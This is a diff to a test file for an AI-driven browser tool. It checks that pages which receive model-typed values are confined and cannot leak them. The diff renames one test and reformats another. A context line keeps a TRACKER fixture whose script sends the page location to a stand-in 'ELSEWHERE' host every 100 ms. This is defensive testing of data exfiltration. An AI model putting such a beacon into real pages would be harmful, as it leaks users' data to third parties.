@@ -47,7 +47,7 @@ POPUP = """<form action=/found target=_blank><input name=q aria-label=Find><butt
 TRACKER = "<title>Found</title><script>setInterval(() => { new Image().src = 'ELSEWHERE/t?' + location }, 100)</script>"
 
 
-async def test_a_tab_that_a_tainted_one_besideis_confined_after_that_is_gone(session: Session, serve: PageServer):
+async def test_a_tab_that_a_tainted_one_opened_is_confined_after_that_is_gone(session: Session, serve: PageServer):
     serve(TRACKER.replace("ELSEWHERE", serve.other_site), "/found")
     at = await opened(session, serve, POPUP)
     await session.call_as("model", "fill", ref=at["Find"], value=CODE)
@@ -276,7 +276,9 @@ async def test_a_picture_that_every_page_of_a_site_asks_for_is_reported_once(ses
     assert asked_elsewhere(serve) == ["/counter.gif"]
 
 
-async def test_nobody_is_asked_for_a_tab_that_cannot_be_opened_beside_a_tainted_one(session: Session, serve: PageServer):
+async def test_nobody_is_asked_for_a_tab_that_cannot_be_opened_beside_a_tainted_one(
+    session: Session, serve: PageServer
+):
     await session.call("goto", url=serve("<form action=/found><input name=q aria-label=Find></form>"))
     serve("<title>Found</title>", "/found")
     await session.call_as("model", "fill", ref="Find", value=CODE, submit=True)
